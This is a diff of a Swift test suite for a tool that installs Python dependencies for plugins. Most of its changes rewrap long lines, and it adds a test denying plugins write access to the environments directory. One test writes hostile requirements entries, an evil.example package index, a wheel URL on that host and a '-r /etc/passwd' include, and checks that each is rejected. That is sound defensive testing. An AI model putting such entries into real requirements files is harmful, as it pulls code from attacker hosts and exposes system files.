@@ -129,7 +129,8 @@ struct EnvironmentTests {
     let executable = try Program.copyCheckout(into: directory)
     try FileManager.default.copyTree(from: Self.uv, to: directory.path + "/uv")
     let outcome = try run(
-      ["run", "w.yaml"], python: "{index_url: none, wheels: \(directory.path)/wheels, uv: \(directory.path)/uv}", by: .pip,
+      ["run", "w.yaml"], python: "{index_url: none, wheels: \(directory.path)/wheels, uv: \(directory.path)/uv}",
+      by: .pip,
       through: ["/usr/bin/setpriv", "--reuid=54321", "--regid=54321", "--clear-groups"], executable: executable)
     #expect(outcome.output.contains("one: acorn 1.0"), "\(outcome.errors)")
   }
@@ -182,7 +183,8 @@ struct EnvironmentTests {
     #expect(outcome.output.contains("one: acorn 1.0, PermissionError13, OSError30, PermissionError13"), "\(outcome)")
   }
 
-  @Test("what can't be had is told with its cause in the first line, and nothing is left of it", arguments: Tool.allCases)
+  @Test(
+    "what can't be had is told with its cause in the first line, and nothing is left of it", arguments: Tool.allCases)
   func missing(_ tool: Tool) throws {
     try makeWheels("acorn==1.0")
     try plugin("one", needs: "['acorn>=9']", imports: ["acorn"])
@@ -192,7 +194,8 @@ struct EnvironmentTests {
     let first = outcome.errors.split(separator: "\n").first { $0.hasPrefix("error:") } ?? ""
     #expect(first.hasPrefix("error: the Python packages of one can't be had: "), "\(outcome.errors)")
     #expect(
-      first.contains(tool == .uv ? "only acorn==1.0 is available and you require acorn>=9" : "acorn>=9 (from versions: 1.0)"),
+      first.contains(
+        tool == .uv ? "only acorn==1.0 is available and you require acorn>=9" : "acorn>=9 (from versions: 1.0)"),
       "\(outcome.errors)")
     #expect(environments().isEmpty && leftovers().isEmpty)
   }
@@ -202,7 +205,8 @@ struct EnvironmentTests {
     let hashes = try makeWheels("acorn==1.0", "acorn==2.0")
     try plugin("one", needs: "['acorn>=1']", imports: ["acorn"])
     try workflow("one")
-    try directory.write("plugins/one/requirements.lock", "acorn==1.0 \\\n    --hash=sha256:\(hashes[0])\n    # via one\n")
+    try directory.write(
+      "plugins/one/requirements.lock", "acorn==1.0 \\\n    --hash=sha256:\(hashes[0])\n    # via one\n")
     let outcome = try run(["run", "w.yaml"])
     #expect(outcome.output.contains("one: acorn 1.0"), "\(outcome.errors)")
     // Another file than was locked.
@@ -219,7 +223,9 @@ struct EnvironmentTests {
   func options() throws {
     try plugin("one", imports: [])
     try workflow("one")
-    for line in ["--index-url https://evil.example/simple", "acorn @ https://evil.example/a.whl", "-r /etc/passwd", "./acorn"] {
+    for line in [
+      "--index-url https://evil.example/simple", "acorn @ https://evil.example/a.whl", "-r /etc/passwd", "./acorn",
+    ] {
       try directory.write("plugins/one/requirements.txt", "# what it needs\n\(line)\n")
       let outcome = try run(["run", "w.yaml"])
       #expect(outcome.status == 2)
@@ -309,6 +315,19 @@ struct EnvironmentTests {
     #expect(sandboxed.status == 0, "\(sandboxed)")
   }
 
+  @Test("no plugin is granted to write where environments are kept")
+  func control() throws {
+    try makeWheels("acorn==1.0")
+    try plugin("one", needs: "[acorn]", imports: ["acorn"])
+    try workflow("one")
+    let manifest = try directory.read("plugins/one/plugin.yaml")
+    let place = "\(directory.path)/state/environments"
+    try directory.write("plugins/one/plugin.yaml", manifest + "\npermissions: ['filesystem.write:\(place)']\n")
+    try FileManager.default.createDirectory(atPath: place, withIntermediateDirectories: true)
+    let outcome = try run(["run", "w.yaml", "--grant", "one=filesystem.write:\(place)"])
+    #expect(outcome.status == 2 && outcome.errors.contains("can't be granted"), "\(outcome)")
+  }
+
   // MARK: The index
 
   /// What serves ``makeWheels(_:)``; its port.
@@ -354,7 +373,8 @@ struct EnvironmentTests {
       ["run", "w.yaml"], python: "{index_url: 'http://127.0.0.1:\(server.port)/simple'}", by: tool,
       network: "{private_networks: [127.0.0.1]}")
     #expect(outcome.status == 2)
-    #expect(outcome.errors.contains("can't be had: ") && outcome.errors.contains("Permission denied"), "\(outcome.errors)")
+    #expect(
+      outcome.errors.contains("can't be had: ") && outcome.errors.contains("Permission denied"), "\(outcome.errors)")
     #expect(outcome.errors.contains(files.port))
     #expect(environments().isEmpty && leftovers().isEmpty)
   }
